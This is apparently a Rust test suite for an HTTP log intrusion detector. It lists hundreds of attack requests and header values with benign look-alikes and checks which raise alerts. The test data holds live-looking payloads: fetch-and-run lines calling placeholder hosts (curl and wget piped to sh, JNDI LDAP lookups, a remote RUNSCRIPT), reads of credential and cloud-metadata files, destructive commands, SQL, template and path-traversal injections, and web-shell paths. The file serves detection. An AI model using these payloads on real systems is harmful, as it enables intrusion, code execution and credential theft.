//! Attacks in forms other than the usual: internal addresses written short, shells of one letter, attacks in header fields,
//! guessing that many clients share. What looks like them and is honest raises nothing above informational.

use serde_json::{Value, json};

use crate::{alerts_of_events, alerts_of_log, log_line};

const BROWSER: &str = "Mozilla/5.0 (X11)";

/// One request each, an attempt if it is refused and high if it is answered.
const TARGETS: &[(&str, &str)] = &[
    ("GET", "/stock?stockApi=http://localhost/admin"),
    // Leftovers of repositories, editors and frameworks, keys and sources.
    ("GET", "/.git/logs/refs/heads/main"),
    ("GET", "/app/.git/objects/ab/cdef"),
    ("GET", "/.hg/store/00manifest.i"),
    ("GET", "/CVS/Root"),
    ("GET", "/.idea/dataSources.xml"),
    ("GET", "/old/sitemanager.xml"),
    ("GET", "/app/config/parameters.yml"),
    ("GET", "/storage/logs/laravel-2026-06-01.log"),
    ("GET", "/application-prod.yml"),
    ("GET", "/settings.py"),
    ("GET", "/privkey.pem"),
    ("GET", "/keystore.jks"),
    ("GET", "/Database.kdbx"),
    ("GET", "/wp-config.php.txt"),
    ("GET", "/index.php_bak"),
    ("GET", "/1.sql"),
    // Targets of known holes.
    ("GET", "/mifs/rs/api/v2/featureusage?format=%24%7b1%7d"),
    ("GET", "/cmd,/simZysh/register_main/setCookie?c0=x"),
    ("PUT", "/rest/id-pools/executeCommand"),
    ("POST", "/wp-json/bricks/v1/render_element"),
    ("GET", "/sse?transportType=stdio&command=touch&args=x"),
    ("POST", "/wd/hub/session"),
    ("POST", "/actuator/jolokia"),
    ("POST", "/cli?remoting=false"),
    ("GET", "/stock?stockApi=http%3A%2F%2F192.168.0.1%3A8080%2Fadmin"),
    ("GET", "/stock?any=http://127.1/%2561dmin"),
    ("GET", "/fetch?path=http://127.0.0.1:8080/"),
    ("GET", "/uploads/x.php?0=id"),
    ("GET", "/x.php?a=whoami"),
    ("GET", "/shell.jsp?c=cat+flag.txt"),
    ("POST", "/images/a1.php"),
    ("POST", "/uploads/2024/x.php"),
    ("GET", "/stock?id=1%26echo+aiwefwlguh%26&store=1"),
    ("GET", "/?q={{(7*7)}}"),
    ("GET", "/?name=%25{7*7}"),
    ("GET", "/app_dev.php/_profiler/open?file=app/config/parameters.yml"),
    ("GET", "/rom-0"),
    ("GET", "/.env;x=1"),
    ("GET", "/.env%20"),
    ("GET", "/.git/config;a"),
    ("GET", "/actuator/heapdump;x=1"),
    ("GET", "/id_rsa/"),
    ("GET", "/dump.sql."),
    ("POST", "/images/logo.php"),
    ("POST", "/.well-known/acme-challenge/x.php"),
    ("POST", "/wp-content/plugins/wp-file-manager/lib/files/x.php"),
    ("GET", "/q?x=1+and+sleep/**/(5)"),
    ("GET", "/q?x=1+union+distinctrow+select+1"),
    ("GET", "/q?x=1+union+values+row(1,2)"),
    ("GET", "/q?x=1+union+values(1,2)"),
    ("GET", "/q?x=1'||this.password[0]=='a"),
    ("GET", "/q?x=1+and+json_length('%7B%7D')"),
    ("GET", "/q?x=1+and+get_lock('a',5)"),
    ("GET", "/q?x=1&#32;AND&#32;SLEEP&#40;5&#41;"),
    ("GET", "/res/../admin/diagnostic.jsp"),
    ("GET", "/mifs/x?h=gPath%5B%60id%60%5D"),
    ("GET", "/cgi-bin/ExportSettings.sh"),
    ("GET", "/config/getuser?index=0"),
    ("GET", "/web.config"),
    ("GET", "/.aws/credentials.bak"),
    ("GET", "/wp-admin/setup-config.php?step=1"),
    ("GET", "/view?file=..//..//..//app//config.php"),
    ("GET", "/view?file=..%5C/..%5C/..%5C/app/config.php"),
    ("GET", "/view?file=..%5C%5C..%5C%5C..%5C%5Capp%5C%5Cweb.cfg"),
    ("GET", "/view?file=.%5C..%5C.%5C..%5Capp%5Cweb.cfg"),
    ("GET", "/static/..//..//..//home/app/settings.cfg"),
    ("GET", "/static/..%5C/..%5C/..%5C/home/app/settings.cfg"),
    ("GET", "/page?name=%7B%7B+config+%7D%7D"),
    ("GET", "/page?name=%7B%7B%20self%20%7D%7D"),
    ("GET", "/page?name=%7B%7B+request.environ+%7D%7D"),
    ("GET", "/ping?host=127.0.0.1;busybox+wget+http://192.0.2.1/x"),
    ("GET", "/page?x=AAEAAAD/////AQAAAAAAAAAMAgAAAA"),
    ("GET", "/list?x=1;id;"),
    ("GET", "/list?x=1;hostname;"),
    ("GET", "/list?x=1;id;ls"),
    ("GET", "/list?q=127.0.0.1;hostname"),
    ("GET", "/list?x=a|powershell+Get-Process"),
    ("GET", "/s?x=%22+onauxclick=%22f(1)"),
    ("GET", "/s?x=%22%7Dalert+(1)"),
    ("GET", "/s?x=javascript:alert(1)+(evaluating+%27x"),
    ("GET", "/q?x=1%27+shutdown+--"),
    ("GET", "/view?file=/var/log/apache2/access.log"),
    ("GET", "/q?x=1%27;+shutdown--"),
    ("GET", "/s?x=%22+onerror=%22alert+(1)"),
    ("GET", "/s?x=%27%2bdocument.cookie%2b%27"),
    ("GET", "/img?url=http://c5abc.oast.fun/x"),
    ("GET", "/ping?host=abc123.oastify.com"),
    ("GET", "/fetch?url=http://host.docker.internal:2375/version"),
    ("GET", "/fetch?src=ftp://127.0.0.1/etc"),
    ("GET", "/app?service=page/SetupCompleted"),
    ("GET", "/mifs/asfV3/api/v2/admins/users"),
    ("GET", "/toolbox-resource/../secmsg/x"),
    ("GET", "/(S(X))/b/(S(X))in/web.dll"),
    ("GET", "/bin/querybuilder.json.;%0aa.css?path=/home"),
    ("GET", "/read?file=/opt/tomcat/conf/server.xml"),
    ("GET", "/read?file=/home/app/.bash_history"),
    ("GET", "/read?file=/etc/kubernetes/admin.conf"),
    ("GET", "/ping?host=1;openssl+s_client+-connect+192.0.2.1:443"),
    ("GET", "/page?name=%7B%7Bsettings.SECRET_KEY%7D%7D"),
    ("GET", "/_cat/indices?v"),
    ("GET", "/actuator/configprops"),
    ("GET", "/_layouts/16/spinstallb.aspx"),
    ("POST", "/_layouts/15/ToolPane.aspx?a=/ToolPane.aspx&DisplayMode=Edit"),
    ("GET", "/WebInterface/function/?command=zip&path=<INCLUDE>users/x</INCLUDE>&names=/a"),
    ("GET", "/jexws4/jexws4.jsp?ppp=id"),
    ("HEAD", "/jmx-console/HtmlAdaptor?action=invokeOpByName&name=x"),
    ("GET", "/irj/cache.jsp"),
    ("POST", "/owa/auth/errorEE.aspx"),
    ("GET", "/latest/meta-data/iam/security-credentials/"),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.9/jaws;sh+/tmp/jaws"),
    ("POST", "/wp-json/gutenkit/v1/install-active-plugin"),
    ("POST", "/jars/upload"),
    ("GET", "/debug/default/view?panel=config"),
    ("GET", "/item?u=jdbc:h2:mem:a;INIT=RUNSCRIPT%20FROM%20'http://192.0.2.9/a.sql'"),
    ("GET", "/item?u=rmi://192.0.2.9:1099/a"),
    ("GET", "/item?u=http://bxss.me/t/fit.txt"),
    ("GET", "/item?id=-1'%20OR%202%2b142-142-1=0%2b0%2b0%2b1%20--%20"),
    ("GET", "/item?id=-1%20OR%203*2%3E(0%2b5%2b142-142)"),
    ("GET", "/item?x=%7B$smarty.version%7D"),
    ("GET", "/item?a[constructor][prototype][b]=c"),
    ("GET", "/dnslookup.cgi?host_name=a.com;killall%20-9%20httpd"),
    ("GET", "/ping?ip=192.0.2.9;reboot"),
    ("GET", "/wp-includes/fonts/css.php"),
    ("GET", "/wp-admin/js/about.php"),
    ("GET", "/.well-known/pki-validation/xmrlpc.php"),
    ("GET", "/media/custom_options/quote/i/n/index.php"),
    ("GET", "/p0wny-shell.php"),
    ("GET", "/wso112233.php"),
    ("GET", "/wp-content/plugins/WordPressCore/include.php"),
    ("GET", "/.env_prod"),
    ("GET", "/app/.env.save.1"),
    ("GET", "/prod.env"),
    ("GET", "//.git//config"),
    ("GET", "/wp-config.php-"),
    ("GET", "/.codex/config.toml"),
    ("GET", "/actuator;/env"),
    ("GET", "/actuator/./env"),
    ("GET", "/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload&path=/x"),
    ("POST", "/saas./resttosaasservlet"),
    ("GET", "/openam/oauth2/..;/ccversion/Version?jato.pageSession=AKztAAV"),
    ("GET", "/storage/filesvr.dn?t=vghpI7EToZUDIZDdprSubL3mTZ2"),
    ("POST", "/?PHPRC=/dev/fd/0"),
    ("GET", "/sitecore/blocked.aspx"),
    ("GET", "/casa/private/config/slice/ha/certificate"),
    ("POST", "/Startup/Register"),
    ("POST", "/webtools/control/ProgramExport"),
    ("GET", "/api/modular-connector/login/?origin=mo&type=x"),
    // Holes that became known in 2026, and tunnels and shells of the time.
    ("POST", "/?rest_route=/batch/v1"),
    ("POST", "/?rest_route=%2Fbatch%2Fv1"),
    ("POST", "/wp-json/batch/v1"),
    ("POST", "/app?service=direct/1/Home/ConfigEditor/quickFindForm"),
    ("POST", "/app?service=direct/1/Home/ConfigEditor/$Form"),
    ("POST", "/index.php?option=com_jce"),
    ("POST", "/index.php?option=com_jce&task=profiles.import"),
    ("GET", "/images/baforms/uploads/form-0/x.php"),
    ("POST", "/graphql?styles%5Bfirst%5D=x"),
    ("POST", "/mcp-rest/test/connection"),
    ("POST", "/mics/api/v2/sentry/mics-config/handleMessage"),
    ("POST", "/PSEMHUB/hub"),
    ("GET", "/wsfed/passive?wctx"),
    ("GET", "/reports/data/opt/data/containers/config/data-collection-agent/.dca"),
    ("POST", "/dataservice/smartLicensing/uploadAck"),
    ("GET", "/cpsess9999999999/json-api/version"),
    (
        "GET",
        "/jsonapi/node/article?filter[t][condition][path]=title&filter[t][condition][operator]=IN&filter[t][condition][value][%60]=x",
    ),
    ("POST", "/owa/mastermailbox%40outlook.com/powershell"),
    (
        "GET",
        "/helpdesk/WebObjects/Helpdesk.woa/wo/bogus.wo/abc/1.0?badparam=/ajax/&wopage=LoginPref",
    ),
    ("GET", "/tunnel.aspx?cmd=connect&target=10.0.0.1&port=445"),
    ("POST", "/actuator/shutdown"),
    ("POST", "/actuator/restart"),
    ("GET", "/wp-json/gravitysmtp/v1/tests/mock-data?page=gravitysmtp-settings"),
    ("GET", "/lang/log/httpd.log"),
    ("POST", "/customer/address_file/upload"),
    ("GET", "/ova-tools.php"),
    ("GET", "/wp-includes/ID3/about.php"),
];

/// What looks like these and is none.
const HONEST: &[(&str, &str)] = &[
    ("GET", "/docs/examples/settings.py"),
    ("GET", "/o/r/raw/branch/main/CVS/Root"),
    ("GET", "/certs/example/ca.pem"),
    ("GET", "/monkey.pem"),
    ("GET", "/keys/public-key.pem"),
    ("GET", "/docs/install.php.txt"),
    ("GET", "/cmd/a?c0=x"),
    ("POST", "/api/jobs/"),
    ("POST", "/cli?remoting=true"),
    ("GET", "/wd/hub/session"),
    ("GET", "/authorize?callback=http://127.0.0.1:43211/cb"),
    ("GET", "/map?api=https://tiles.example/v1"),
    ("GET", "/search?q=whoami"),
    ("GET", "/list?0=id&1=name"),
    ("GET", "/list?sort=id"),
    ("POST", "/images/upload.php"),
    ("POST", "/uploads/index.php"),
    ("POST", "/css/style.php"),
    ("POST", "/img/login.php"),
    ("POST", "/photos/ws.php"),
    ("GET", "/images/a1.php"),
    ("GET", "/find?q=echo+%26+the+bunnymen"),
    ("GET", "/?name=100%25{a}"),
    ("GET", "/wp-admin/setup-config.php"),
    ("GET", "/_layouts/15/start.aspx"),
    ("GET", "/owa/auth/logon.aspx?replaceCurrent=1"),
    ("GET", "/owa/auth/errorFE.aspx?httpCode=500"),
    ("GET", "/irj/portal"),
    ("GET", "/docs/latest/meta-data/iam/"),
    ("GET", "/shell?theme=dark"),
    ("GET", "/debug/default/view?tag=5f1c&panel=config"),
    ("GET", "/wp-includes/js/tinymce/wp-tinymce.php?c=1"),
    ("GET", "/wp-admin/load-styles.php?c=1"),
    ("GET", "/.env.example"),
    ("GET", "/env.js"),
    ("GET", "/docs/app/prod.env"),
    ("GET", "/songs?q=rock;cd%202001"),
    ("GET", "/songs?q=vinyl+%26+cd+%22best+of%22"),
    ("GET", "/songs?q=vinyl+%7C+cd+/+dvd"),
    ("GET", "/find?q=react+%26+node+.js"),
    ("GET", "/item?sort=price%20or%20name"),
    ("GET", "/calc?expr=2*3-1=5"),
    ("GET", "/devices?device=lamp;on"),
];

#[test]
fn one_request_is_an_attempt_and_an_answer_is_high() {
    let all = TARGETS.iter().chain(HONEST);
    let cases: Vec<_> =
        [404, 200].iter().flat_map(|status| all.clone().map(|of| (of, *status))).collect();
    let lines = cases.iter().enumerate();
    // Each under a name of its own, or they would be one attack of many clients.
    let log = lines.map(|(client, (request, status))| {
        log_line(client, client, **request, *status, &format!("{BROWSER} {client}"))
    });
    let alerts = alerts_of_log(&log.collect::<String>());
    for (client, (request, status)) in cases.iter().enumerate() {
        let of = alerts.get(&client).cloned().unwrap_or_default();
        let has = |rule: &str| of.iter().any(|(name, _)| name == rule);
        if HONEST.contains(request) {
            assert!(of.iter().all(|(_, severity)| *severity == 0), "{request:?} {status}: {of:?}");
        } else if *status == 200 {
            assert!(has("http-attack-answered"), "{request:?}: {of:?}");
        } else {
            assert!(has("http-attack-attempt"), "{request:?}: {of:?}");
        }
    }
}

/// A log tells who has signed in, and whether something was there before.
#[test]
fn a_program_that_somebody_created_is_high() {
    let at = |user: &str, target: &str, status: u16| {
        format!(
            "198.51.100.1 - {user} [22/Nov/2026:10:00:00 +0000] \"PUT {target} HTTP/1.1\" {status} 5 \"-\" \"-\"\n"
        )
    };
    for (line, is_told) in [
        (at("-", "/x.jsp", 201), true),
        (at("-", "/api/items.php", 201), false),
        (at("-", "/x.jsp", 403), false),
        (at("-", "/notes.txt", 201), false),
        (at("joe", "/x.php", 201), false),
        (at("-", "/uploads/x.php", 204), true),
        (at("-", "/x.aspx", 201), true),
        (at("joe", "/uploads/x.php", 204), false),
        (at("-", "/share/web/site/x.php", 201), false),
    ] {
        let alerts = rules([line.clone()].into_iter());
        assert_eq!(alerts.iter().any(|rule| rule == "http-attack-answered"), is_told, "{line}");
    }
}

/// A field of a request, and whether it is an attack.
const FIELDS: &[(&str, &str, bool)] = &[
    ("x-middleware-subrequest", "pages/_middleware", true),
    ("x-middleware-subrequest", "src/middleware:src/middleware", true),
    ("user-agent", "Mozilla/5.0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", true),
    ("user-agent", "$(curl http://192.0.2.1/x|sh)", true),
    ("user-agent", "`id`", true),
    ("user-agentt", "zerodiumsystem(\"id\");", true),
    ("x-forwarded-for", "1' or sleep(5)#", true),
    ("x-forwarded-for", "198.51.100.7, 10.0.0.1", false),
    ("cookie", "id=x'%3BSELECT+CASE+WHEN+(1=1)+THEN+pg_sleep(10)+END--", true),
    ("cookie", "lang=..%2f..%2f..%2fetc%2fpasswd", true),
    ("cookie", "back=..%2F..%2Fcart; last=time.sleep(5)", false),
    ("authorization", "Bearer ';select/**/sleep(5);--", true),
    ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOb25lIn0.eyJzdWIiOiJhIn0.", true),
    ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", false),
    ("authorization", "Bearer eyJhbGciOiAibm9uZSIsICJ0eXAiOiAiSldUIn0.eyJzdWIiOiJhIn0.", true),
    (
        "authorization",
        "Bearer eyJraWQiOiIxIiwidHlwIjoiSldUIiwiYWxnIjoibm9uZSJ9.eyJzdWIiOiJhIn0.",
        true,
    ),
    (
        "authorization",
        "Bearer eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiJhIn0.c2ln",
        false,
    ),
    ("cookie", "token=eyJhbGciOiJOT05FIn0.eyJzdWIiOiJhIn0.", true),
    ("accept", "../../../../etc/passwd{{", true),
    ("accept", "text/html, */*;q=0.8", false),
    ("proxy", "http://192.0.2.9:8080", true),
    ("connection", "close, X-Forwarded-For", true),
    ("connection", "keep-alive, Upgrade, HTTP2-Settings", false),
    ("cookie", "profile=_$$ND_FUNC$$_function(){}()", true),
    ("cookie", "profile=eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9In0=", true),
    ("user-agent", "powershell -enc SQBFAFgA", true),
    ("user-agent", "Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041.1", false),
    ("user-agent", "Foo/1 (bash; rest; id card)", false),
    ("x-forwarded-for", "127.0.0.1|id", true),
    ("x-custom-ip-authorization", "127.0.0.1", true),
    ("x-originating-ip", "127.0.0.1", true),
    ("x-originating-ip", "198.51.100.7", false),
    ("host", "metadata.google.internal", true),
    ("host", "localhost", false),
    ("x-api-version", "%24%7Bjndi:ldap://192.0.2.1/a}", true),
    ("accept", "() { :;}; /bin/id", true),
    ("transfer_encoding", "chunked", true),
    ("referer", "https://shop.example/search?q=how+to+use+%3Cscript%3E+tag", true),
    ("accept-language", "en' or 1=1--", true),
    ("accept-language", "en-GB,en;q=0.8", false),
    ("x-api-key", "${jndi:ldap://192.0.2.1/a}", true),
    ("cf-connecting-ip", "${jndi:ldap://192.0.2.1/a}", true),
    ("x-api-key", "f00dfeed", false),
    ("x-forwarded-host", "x.oast.pro", true),
    ("x-forwarded-host", "sso.oast.de", false),
    ("referer", "https://shop.example/?id=1%20union%20select%201", true),
    ("referer", "https://shop.example/../../../../etc/passwd", true),
    ("referer", "https://db.example/index.php?route=/sql&db=information_schema", false),
    ("referer", "https://wiki.example/?search=document.cookie&go=1", false),
    ("referer", "https://shop.example/?x=' or '1'='1", true),
    ("referer", "https://shop.example/<script>alert(1)</script>", true),
    ("test", "() { :;}; echo x", true),
    ("x-original-url", "/admin", true),
    ("x-original-url", "/cart", false),
    ("x-original-url", "https://shop.example/admin", false),
    ("next-action", "0000000000000000000000000000000000000000", true),
    ("next-action", "7f3c0d2b9a4e41d8a6f0c5b2e1d49a7788c0ffee", false),
];

#[test]
fn an_attack_in_a_field_is_an_attempt() {
    for (name, value, is_attack) in FIELDS {
        attempts(name, &[value], *is_attack);
    }
}

/// From inside, a proxy names the address that it has.
#[test]
fn a_field_that_a_proxy_inside_fills_is_no_attempt() {
    let event = |client: &str, field: &Value, second: u64| {
        let mut event = of_field("x-client-ip", &["127.0.0.1"], second);
        event["source"]["ip"] = client.into();
        event["http"]["request"]["headers"] = field.clone();
        event
    };
    for (client, field, is_told) in [
        ("203.0.113.7", json!({"x-client-ip": ["127.0.0.1"]}), true),
        ("10.0.0.7", json!({"x-client-ip": ["127.0.0.1"]}), false),
        ("10.0.0.7", json!({"host": ["169.254.169.254"]}), false),
    ] {
        let events: Vec<Value> = (0..5).map(|n| event(client, &field, n)).collect();
        let rules = alerts_of_events(&events);
        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
        assert_eq!(told, is_told, "{client} {field}: {rules:?}");
    }
}

/// Whoever reads the Referer of the page of a search reads what was judged with the search itself.
#[test]
fn a_search_on_the_same_site_counts_once() {
    for (referrer, is_told) in [
        ("https://wiki.example/doku.php?do=search&id=start&q=how+to+use+%3Cscript%3E+tag", false),
        ("https://wiki.example/?page=%3Cscript%3E", true),
        ("https://wiki.example/?q=' union select 1", true),
        ("https://other.example/?q=%3Cscript%3E+tag", true),
    ] {
        let events = (0..5).map(|n| {
            let mut event = of_field("referer", &[referrer], n);
            event["http"]["request"]["headers"]["host"] = json!(["wiki.example"]);
            event
        });
        let rules = alerts_of_events(&events.collect::<Vec<_>>());
        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
        assert_eq!(told, is_told, "{referrer}: {rules:?}");
    }
}

/// What the server says of a request shows that a hole was used, or that somebody looks for one.
#[test]
fn answers_tell_what_a_request_was() {
    let cases = |request: Value, response: Value, status: u16, count: u64, query: bool| {
        let events = (0..count).map(|n| {
            let mut event = of_field("accept", &["*/*"], n);
            let target = if query { format!("/WebResource.axd?d={n}aBcD") } else { "/".to_owned() };
            event["url"]["original"] = target.into();
            event["http"]["request"]["headers"] = request.clone();
            event["http"]["response"] = json!({"status_code": status, "headers": response});
            event
        });
        alerts_of_events(&events.collect::<Vec<_>>())
    };
    let has = |rules: &[String], name: &str| rules.iter().any(|rule| rule == name);
    let remembered = json!({"cookie": ["rememberMe=c2Vjw=="]});
    let deleted = json!({"set-cookie": ["rememberMe=deleteMe; Path=/"]});
    let kept = json!({"set-cookie": ["a=b; Path=/"]});
    assert!(has(
        &cases(remembered.clone(), deleted.clone(), 200, 15, false),
        "http-remember-guessing"
    ));
    assert!(!has(&cases(remembered.clone(), deleted, 200, 3, false), "http-remember-guessing"));
    assert!(!has(&cases(remembered, kept, 200, 15, false), "http-remember-guessing"));
    let action = json!({"next-action": ["x"]});
    let output = json!({"x-action-redirect": ["/login?a=uid%3D0;push"]});
    let login = json!({"x-action-redirect": ["/login?next=%2Fcart;push"]});
    assert!(has(&cases(action.clone(), output, 303, 1, false), "http-action-output"));
    assert!(!has(&cases(action, login, 303, 1, false), "http-action-output"));
    let none = json!({});
    assert!(has(&cases(none.clone(), none.clone(), 404, 40, true), "http-padding-probing"));
    assert!(!has(&cases(none.clone(), none, 200, 40, true), "http-padding-probing"));
}

#[test]
fn hosts_of_the_inside_asked_for_from_outside_are_told() {
    for (client, hosts, is_told) in
        [("203.0.113.7", 10, true), ("203.0.113.7", 3, false), ("10.0.0.7", 30, false)]
    {
        let events = (0..hosts).map(|n| {
            let host = format!("10.1.0.{n}");
            let mut event = of_field("host", &[&host], n);
            event["source"]["ip"] = client.into();
            event
        });
        let rules = alerts_of_events(&events.collect::<Vec<_>>());
        let told = rules.iter().any(|rule| rule == "http-inside-hosts");
        assert_eq!(told, is_told, "{client} {hosts}: {rules:?}");
    }
}

/// Servers take another of them than the first, or log all.
#[test]
fn an_attack_in_a_repeated_field_is_an_attempt() {
    for name in ["user-agent", "referer", "cookie"] {
        attempts(name, &["a=b", "${jndi:ldap://192.0.2.1/a}"], true);
        attempts(name, &["a=b", "() { :; }; id"], true);
    }
    attempts("user-agent", &["a=b", "<script>f()</script>"], true);
    attempts("user-agent", &["a=b", "c=d"], false);
}

/// Asserts that five requests with this field are attempts of attacks, or raise no alert of them.
fn attempts(name: &str, values: &[&str], is_attack: bool) {
    // Five: what is no attack adds up to nothing.
    let events: Vec<Value> = (0..5).map(|n| of_field(name, values, n)).collect();
    let rules = alerts_of_events(&events);
    let told = rules.iter().any(|rule| rule == "http-attack-attempts");
    assert_eq!(told, is_attack, "{name}: {values:?}: {rules:?}");
}

/// A request of an outside client with this field, in this second, that was refused.
fn of_field(name: &str, values: &[&str], second: u64) -> Value {
    json!({
        "@timestamp": format!("2026-11-24T10:00:{second:02}Z"),
        "event": {"kind": "event"},
        "http_trace": {"missing": []},
        "source": {"ip": "203.0.113.7"},
        "destination": {"ip": "10.0.0.2", "port": 80},
        "url": {"original": "/"},
        "http": {
            "request": {"method": "GET", "headers": {name: values}},
            "response": {"status_code": 404},
        },
    })
}

/// The rules above informational that a log raises.
fn rules(log: impl Iterator<Item = String>) -> Vec<String> {
    let alerts = alerts_of_log(&log.collect::<String>()).into_values().flatten();
    alerts.filter(|(_, severity)| *severity > 0).map(|(rule, _)| rule).collect()
}

#[test]
fn programs_of_attackers_are_known_by_name() {
    for agent in
        ["libredtail-http", "Hello, World", "r00ts3c-owned-you", "OWASP ZAP", "DAVTest/1.2"]
    {
        let lines = (0..2).map(|n| log_line(1, n, ("GET", "/"), 200, agent));
        assert_eq!(rules(lines), ["http-scanner-user-agent"], "{agent}");
    }
}

/// WordPress answers 200 to a wrong password and redirects after the right one; browsers send nothing to xmlrpc.php.
#[test]
fn guessing_at_wordpress_from_many_addresses_is_told() {
    let tries = |path: &'static str, agent: &'static str, refused: usize| {
        rules((0..60).map(move |n| {
            let status = if n % 10 < refused { 200 } else { 302 };
            log_line(n, n * 5, ("POST", path), status, agent)
        }))
    };
    assert_eq!(tries("/wp-login.php", BROWSER, 10), ["http-spread-logins"]);
    assert_eq!(tries("/xmlrpc.php", BROWSER, 10), ["http-spread-logins"]);
    assert_eq!(tries("/wp-login.php", BROWSER, 3), [""; 0]);
    assert_eq!(tries("/wp-login.php?action=lostpassword", BROWSER, 10), [""; 0]);
    assert_eq!(tries("/xmlrpc.php", "Jetpack by WordPress.com", 10), [""; 0]);
}

#[test]
fn slow_guessing_at_a_console_is_told() {
    let tries = |path: &'static str, seconds: usize, count: usize| {
        rules((0..count).map(move |n| log_line(1, n * seconds, ("GET", path), 401, BROWSER)))
    };
    assert_eq!(tries("/manager/html", 6, 60), ["http-brute-force"]);
    assert_eq!(tries("/manager/html", 60, 30), [""; 0]);
    assert_eq!(tries("/manager/status", 6, 60), [""; 0]);
}

#[test]
fn lists_of_users_are_an_enumeration() {
    let targets = [
        "/?author=1", "/?rest_route=/wp/v2/users", "/author-sitemap.xml", "/wp-json/wp/v2/users",
        "/wp-json/wp/v2/users/1",
    ];
    let asked = |referrer: &'static str, agent: &'static str| {
        rules(targets.into_iter().enumerate().map(move |(n, target)| {
            log_line(1, n, ("GET", target), 200, agent).replacen("\"-\"", referrer, 1)
        }))
    };
    assert_eq!(asked("\"-\"", BROWSER), ["http-user-enumeration"]);
    assert_eq!(asked("\"https://blog.example/wp-admin/\"", BROWSER), [""; 0]);
    assert_eq!(asked("\"-\"", "Mozilla/5.0 (compatible; Googlebot/2.1)"), [""; 0]);
    assert_eq!(asked("\"-\"", "node-fetch/1.0"), [""; 0]);
}

/// A log may not tell the host.
#[test]
fn parameters_are_counted_without_a_host() {
    let names = |differ: bool| {
        rules((0..40).map(move |n| {
            let target = format!("/page?p{}=1", if differ { n } else { 0 });
            log_line(1, n, ("GET", &target), 200, BROWSER)
        }))
    };
    assert_eq!(names(true), ["http-parameter-fuzzing"]);
    assert_eq!(names(false), [""; 0]);
}
